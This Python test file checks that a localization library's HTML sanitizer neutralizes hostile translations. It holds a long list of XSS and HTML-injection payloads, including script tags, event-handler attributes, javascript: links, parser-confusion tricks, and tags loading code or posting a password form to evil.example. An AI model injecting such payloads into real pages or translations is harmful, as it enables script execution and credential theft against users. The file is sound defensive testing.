"""Translations are untrusted: hostile msgstrs, judged by an independent parser of the page they end up in."""

from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser
from time import process_time

import html5lib
import pytest

from l10n.formats.html_format import Html
from l10n.formats.markup import Reason, inert, violations
from l10n.model import Segment

PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script",
    "</script><script>alert(1)",
    "<scr\0ipt>alert(1)</script>",
    "<\0script>alert(1)</script>",
    "<\x08img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="https://evil.example/track.gif">',
    '<img alt="A photo" src="javascript:alert(1)">',
    '<img alt="A photo" src="photo.png" onload="alert(1)">',
    '<img alt="A photo" alt="x" src="photo.png">',
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://evil.example/">x</a>',
    '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    '<a href="https://ok.example/" style="position:fixed;inset:0">x</a>',
    '<a href="https://ok.example/" target="_blank">x</a>',
    '<a href="https://ok.example/@evil.example">x</a>',
    '<a href="https://ok&period;example/">x</a>',
    "<a href='https://ok.example/' href='https://evil.example/'>x</a>",
    "<a",
    "<a href='",
    '<a href="https://ok.example/',
    "<a href=https://ok.example/ x='>",
    "</a>",
    "</b></a></p>",
    "</p><p>",
    "</div></body></html>",
    "<p>another block",
    "<table><tr><td>x",
    "</td></tr></table>",
    "</li><li>",
    "<h1>big</h1>",
    "<b>",
    "<b><b><b>",
    "</b>",
    "<b onmouseover=alert(1)>x</b>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example/><input name=password></form>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<math href="javascript:alert(1)">x</math>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title></title>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<textarea>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><script>",
    "<!-- a comment -->",
    "<!--",
    "<!-->",
    "--><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!doctype html>",
    "<?php echo 1 ?>",
    "<?xml-stylesheet href='//evil.example/x.css'?>",
    "</>",
    "</ x>",
    "<!x>",
    "<",
    "</",
    "<!",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\u202egnp.exe\u202c",
    "\u202d\u202d",
    "\u2066\u2067 x",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "x onmouseover=alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "`-alert(1)-`",
    "{{constructor.constructor('alert(1)')()}}",
    "line\r\n\r\nline\n\n<script>\n\nalert(1)</script>",
    "<x-evil onclick=alert(1)>x</x-evil>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<select><option>x</select>",
    "<frameset><frame src=x>",
    "<html lang=xx onload=alert(1)><body onload=alert(1)>",
)

PAGE = """<!doctype html><html lang="en"><head><title>The launch</title>
<meta name="description" content='A page about "launches"'></head>
<body><h1 title=Heading>The launch</h1>
<p>See <a href="https://ok.example/" title="A link">the <b>launch</b></a> <img src="photo.png" alt="A photo">
now<!-- so -->.</p><img src="wide.png" alt="A wide photo"><ul><li>One<li>Two</ul>
<table><tr><td>A cell<td>Another</table><pre>one
two</pre><textarea placeholder="Your name">Some text</textarea>
<p>The last, <i>with <code>code</code></i><br>in it.</p></body></html>
"""

FORM = Html()
_READ = frozenset({"alt", "title", "placeholder"})
SEGMENTS = FORM.parse(PAGE, "source/x.html").segments


def elements(page: str) -> Counter[tuple[object, ...]]:
    """Return the elements, attributes and comments html5lib finds in a page, without the values people read."""
    found: Counter[tuple[object, ...]] = Counter()
    for node in html5lib.parse(page, namespaceHTMLElements=False).iter():
        if not isinstance(node.tag, str):
            found["comment", node.text] += 1
            continue
        read = _READ | {"content"} if node.tag == "meta" else _READ
        attributes = tuple(sorted((name, "" if name in read else value) for name, value in node.items()))
        found[node.tag, attributes] += 1
    return found


def page_with(translate: Callable[[str], str], put: Callable[[Segment, str], str] = FORM.localized) -> str:
    """Return the page in which `translate(msgid)` is the translation of each segment."""
    return FORM.parse(PAGE, "source/x.html").replace(lambda segment: put(segment, translate(segment.msgid)))


ELEMENTS = elements(PAGE)
each_payload = pytest.mark.parametrize("payload", PAYLOADS)


def test_there_are_segments_of_every_kind_and_enough_payloads() -> None:
    assert len(SEGMENTS) >= 14
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def test_most_payloads_would_change_the_page_if_they_were_let_through() -> None:
    def as_it_is(_: Segment, msgstr: str) -> str:
        return msgstr

    def let_through(payload: str) -> str:
        return page_with(lambda msgid: msgid + payload, as_it_is)

    assert sum(elements(let_through(payload)) != ELEMENTS for payload in PAYLOADS) > 75


@each_payload
class TestEveryPayloadInEverySegment:
    def test_behind_the_text_it_changes_no_element(self, payload: str) -> None:
        assert elements(page_with(lambda msgid: f"{msgid} {payload}")) == ELEMENTS

    def test_alone_before_the_text_or_in_the_middle_it_brings_no_element(self, payload: str) -> None:
        def in_the_middle(msgid: str) -> str:
            return msgid[: len(msgid) // 2] + payload + msgid[len(msgid) // 2 :]

        assert not elements(page_with(lambda _: payload + payload)) - ELEMENTS
        assert not elements(page_with(lambda msgid: f"{payload} {msgid}")) - ELEMENTS
        assert not elements(page_with(in_the_middle)) - ELEMENTS

    def test_the_result_has_no_violations(self, payload: str) -> None:
        for segment in SEGMENTS:
            assert violations(segment.msgid, inert(segment.msgid, segment.msgid + payload)) == ()


class _Tags(HTMLParser):
    """The start tags the parser of the standard library finds."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: Counter[str] = Counter()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.seen[tag] += 1


@each_payload
def test_no_page_says_more_than_its_source_to_the_parser_of_python_either(payload: str) -> None:
    assert not _Tags(page_with(lambda msgid: msgid + payload)).seen - _Tags(PAGE).seen


class TestWhatATranslationMayDo:
    MSGID = 'See <a href="x" title="A link">the <b>launch</b></a> <img src="p.png" alt="A photo"> now<br>'

    @pytest.mark.parametrize(
        "msgstr",
        [
            '<img src="p.png" alt="Een foto"> Zie nu <a href="x" title="Een link"><b>de</b> lancering</a><br>',
            'Zie <a title="Een link" href="x">de <b>lancering</b></a>',
            "Zie <a href='x' title='Een \"link\"'>de lancering</a>",
            "Zie <b>nu</b> a < b &amp; c > d",
            "Zie &lt;script&gt; & meer <3",
        ],
    )
    def test_moving_leaving_out_and_translating_what_people_read(self, msgstr: str) -> None:
        assert inert(self.MSGID, msgstr) == msgstr
        assert violations(self.MSGID, msgstr) == ()

    def test_not_using_a_tag_more_often_than_the_source(self) -> None:
        assert inert("<b>a</b>", "<b>a</b><b>b</b>") == "<b>a</b>&lt;b>b&lt;/b>"

    def test_not_leaving_a_tag_open(self) -> None:
        assert inert("<b>a</b> <i>b</i>", "<b>a <i>b</b></i>") == "<b>a &lt;i>b</b>&lt;/i>"

    def test_not_putting_a_link_into_a_link(self) -> None:
        msgid = "<a href=1>a</a> <a href=2>b</a>"
        assert inert(msgid, "<a href=1>a <a href=2>b</a></a>") == "<a href=1>a &lt;a href=2>b</a>&lt;/a>"

    def test_not_bringing_markup_in_the_values_people_read(self) -> None:
        msgid = '<img src=x alt="A">'
        assert inert(msgid, '<img src=x alt="<b onclick=y>">') == '<img src=x alt="&lt;b onclick=y>">'

    def test_the_markup_its_source_has_in_such_a_value_stays(self) -> None:
        msgid = '<img src=x alt="<b>A</b>"> b'
        assert inert(msgid, msgid + "!") == msgid + "!"

    def test_a_comment_of_the_source_stays_and_no_other_comes(self) -> None:
        assert inert("a<!-- x -->", "b<!-- x --><!-- y -->") == "b<!-- x -->&lt;!-- y -->"

    def test_an_element_with_raw_content_only_as_a_whole(self) -> None:
        msgid = "a <script>x()</script> b"
        assert inert(msgid, "c <script>x()</script> d") == "c <script>x()</script> d"
        assert inert(msgid, "c <script>y()</script>") == "c &lt;script>y()&lt;/script>"

    def test_where_the_source_is_not_nested_the_order_of_its_tags_counts(self) -> None:
        assert inert("a</b> c <i>d", "e</b> f <i>g") == "e</b> f <i>g"
        assert inert("a</b> c <i>d", "e <i>f</b> g") == "a</b> c <i>d"
        assert [one.reason for one in violations("a</b>", "e")] == [Reason.OTHER_ORDER]


class TestViolations:
    def test_each_says_where_it_is_what_it_is_and_why(self) -> None:
        found = violations("<b>a</b>", "x <b>y\0 <script>z</script>")
        assert [(one.offset, one.text, one.reason) for one in found] == [
            (2, "<b>", Reason.UNBALANCED),
            (6, "\0", Reason.CONTROL),
            (8, "<script>z</script>", Reason.NOT_IN_SOURCE),
        ]

    def test_the_source_text_itself_has_none(self) -> None:
        assert violations("</b><script>\0", "</b><script>\0") == ()


@pytest.mark.parametrize(
    "piece", ["<b>", "</b>", "<", "&", "<a ", "<!--", "<svg>", "<a href='", "<script>", "</", '<b x="']
)
def test_a_hundred_thousand_of_a_kind_take_linear_time(piece: str) -> None:
    many = piece * 100_000
    started = process_time()
    inert("<b>x</b>", many)
    inert(many, f"{many} x")
    assert process_time() - started < 30
